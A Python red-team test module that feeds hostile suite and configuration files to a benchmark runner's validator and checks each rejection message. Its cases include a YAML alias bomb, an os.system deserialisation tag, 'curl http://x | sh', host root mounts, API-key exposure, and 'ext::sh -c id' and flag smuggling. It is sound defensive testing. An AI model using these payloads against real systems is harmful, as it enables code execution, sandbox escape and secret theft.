"""Suites that a stranger wrote: what each of their files could be, ask for, or lead to."""

from collections.abc import Callable
from typing import Final

from tests.redteam.harness.place import Order, Place

Change = Callable[[Place], object]

_RUN: Final = ("run", "suite", "--no-gate", "--candidate", "reference", "--sandbox", "bwrap", "--out", "out")
_LAUGHS: Final = "a: &a [x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


def _append(text: str) -> Change:
    def change(place: Place) -> None:
        path = place.suite / "suite.yml"
        path.write_text(path.read_text() + text)

    return change


def _yml(text: str) -> Change:
    return lambda place: (place.suite / "suite.yml").write_text(text)


def _edit(old: str, new: str) -> Change:
    return lambda place: place.suite_yml(old, new)


def _problem(old: str, new: str) -> Change:
    return lambda place: place.replace(place.problem / "problem.yml", old, new)


def _tests(text: str) -> Change:
    return lambda place: (place.problem / "tests.json").write_text(text)


def _environment(line: str) -> Change:
    return lambda place: place.environment(line)


def _swap(file: str, kind: str) -> Change:
    return lambda place: place.swap(place.suite / file, kind)


def _other_lock(text: str) -> Change:
    return lambda place: place.lock_text(text)


def _linked_base(place: Place) -> None:
    place.replace(place.problem / "problem.yml", _base_of(place), "base:\n  folder: tree\n")
    (place.suite / "tree").symlink_to(place.outside)


def _linked_file_in_base(place: Place) -> None:
    place.replace(place.problem / "problem.yml", _base_of(place), "base:\n  folder: tree\n")
    (place.suite / "tree" / "calc").mkdir(parents=True)
    (place.suite / "tree" / "calc" / "half.py").symlink_to(place.outside / "file")


def _base_of(place: Place) -> str:
    text = (place.problem / "problem.yml").read_text()
    start = text.index("base:")
    return text[start : text.index("\nenvironment:", start) + 1]


def _base(line: str) -> Change:
    def change(place: Place) -> None:
        place.replace(place.problem / "problem.yml", _base_of(place), f"base:\n  {line}\n")

    return change


def _many_files(place: Place) -> None:
    folder = place.problem / "hidden" / "many"
    folder.mkdir()
    with (folder / "large").open("wb") as file:
        file.truncate(1 << 34)


_SUITES: Final[dict[str, tuple[Change, str]]] = {
    "aliases": (_yml(_LAUGHS), "anchors and aliases are not allowed"),
    "tag": (_append("run: !!python/object/apply:os.system ['id']\n"), "tags are not allowed"),
    "merge-key": (_append("<<: {name: other}\n"), "merge keys are not allowed"),
    "key-twice": (_append("name: other\n"), "the key 'name' is given twice"),
    "depth": (_append("x: " + "[" * 5000 + "\n"), "nested deeper than 32"),
    "two-mebibytes": (_append("# " + "x" * (2 << 20) + "\n"), "is larger than 1048576 bytes"),
    "base-60": (_append("x: " + "1:" * 100_000 + "1\n"), "a number is too long"),
    "norway": (_edit("name: calc", "name: no"), "put it in quotes"),
    "no-utf8": (lambda place: (place.suite / "suite.yml").write_bytes(b"name: \xff\xfe\n"), "is not UTF-8 text"),
    "zip": (lambda place: (place.suite / "suite.yml").write_bytes(b"PK\x03\x04" + b"\0" * 60), "suite.yml"),
    "control-signs": (_append('"a\\e]8;;http://x\\a\\n::error::b": 1\n'), "there is no such key"),
    "suite-pipe": (_swap("suite.yml", "pipe"), "is not a regular file"),
    "suite-device": (_swap("suite.yml", "device"), "is a symbolic link"),
    "suite-holes": (_swap("suite.yml", "holes"), "is larger than"),
    "tests-pipe": (_swap("problems/calc-half/tests.json", "pipe"), "is not a regular file"),
    "tests-holes": (_swap("problems/calc-half/tests.json", "holes"), "is larger than"),
    "statement-link": (_swap("problems/calc-half/statement.md", "link"), "is a symbolic link"),
    "lock-link": (_swap("environments/py311/requirements.lock", "link"), "is a symbolic link"),
    "hidden-link": (_swap("problems/calc-half/hidden/tests/test_half.py", "link"), "is a symbolic link"),
    "hidden-pipe": (_swap("problems/calc-half/hidden/tests/test_half.py", "pipe"), "is not a regular file"),
    "hidden-holes": (_many_files, "is larger than"),
    "problem-folder-link": (_swap("problems/calc-half", "link"), "is a symbolic link"),
    "base-folder-link": (_linked_base, "is a symbolic link"),
    "base-file-link": (_linked_file_in_base, "is a symbolic link"),
    "base-folder-outside": (_base("folder: ../../outside"), "plain relative path"),
    "commit-is-an-option": (_base("commit: --output=/tmp/x"), "base.commit"),
    "commit-is-a-range": (_base("commit: HEAD~1"), "base.commit"),
    "privileged": (_environment("privileged: true"), "privileged: there is no such key"),
    "mounts": (_environment("mounts: ['/:/host']"), "mounts: there is no such key"),
    "network": (_environment("network: host"), "network: there is no such key"),
    "variables": (_environment("env: [OPENAI_API_KEY]"), "env: there is no such key"),
    "set-up": (_environment("setup: 'curl http://x | sh'"), "setup: there is no such key"),
    "image-by-tag": (_edit("  image: null", "  image: 'evil:latest'"), "does not name an image by its"),
    "image-is-an-option": (_edit("  image: null", "  image: '--volume=/:/host'"), "does not name an image by its"),
    "image-not-allowed": (
        _edit("  image: null", f"  image: 'evil.example/x@sha256:{'1' * 64}'"), "which is not allowed here"
    ),
    "lock-absolute": (_edit("lock: environments", "lock: /etc/passwd #"), "plain relative path"),
    "lock-outside": (_edit("lock: environments", "lock: ../../outside/file #"), "plain relative path"),
    "lock-takes-an-index": (
        _other_lock("--index-url http://127.0.0.1:9/simple\npytest==8.3.4 --hash=sha256:" + "0" * 64 + "\n"), "lock"
    ),
    "lock-takes-an-address": (_other_lock("evil @ http://127.0.0.1:9/evil.whl --hash=sha256:" + "0" * 64), "lock"),
    "lock-takes-a-folder": (_other_lock("-e /work\n"), "lock"),
    "problem-outside": (_edit("- calc-half", "- ../../outside"), "problems.1"),
    "repository-outside": (_edit("repository: ../repository", "repository: ../../outside/repository"), "leads out of"),
    "repository-root": (_edit("repository: ../repository", "repository: /"), "leads out of"),
    "repository-address": (_edit("repository: ../repository", "repository: 'ext::sh -c id'"), "not a git repository"),
    "tests-outside": (_problem("- tests/test_half.py", "- ../../../etc/passwd"), "test_files"),
    "python-path-absolute": (_problem("python_path:\n- ''", "python_path:\n- /etc"), "python_path"),
    "limits-without-end": (_problem("memory_mb: 1024", "memory_mb: 1000000000"), "limits.memory_mb"),
    "time-without-end": (_problem("seconds: 120.0", "seconds: .inf"), "not finite"),
    "test-ids-depth": (_tests("[" * 100_000), "it is nested deeper than 64 levels"),
    "test-ids-twice": (_tests('{"FAIL_TO_PASS": ["a"], "FAIL_TO_PASS": ["b"]}'), "is given twice"),
    "test-ids-many": (_tests('{"FAIL_TO_PASS": [' + "[]," * 2_000_000 + "[]]}"), "it holds more than 2000000 values"),
    "test-ids-number": (_tests('{"FAIL_TO_PASS": ' + "9" * 1_000_000 + "}"), "a number is too long"),
    "test-ids-infinite": (_tests('{"FAIL_TO_PASS": 1e400}'), "is not finite"),
}  # fmt: skip


def _order(change: Change, words: str) -> Callable[[Place], Order]:
    def order(place: Place) -> Order:
        change(place)
        return Order(_RUN, words)

    return order


ATTACKS: Final = {f"suite-{name}": _order(change, words) for name, (change, words) in _SUITES.items()}
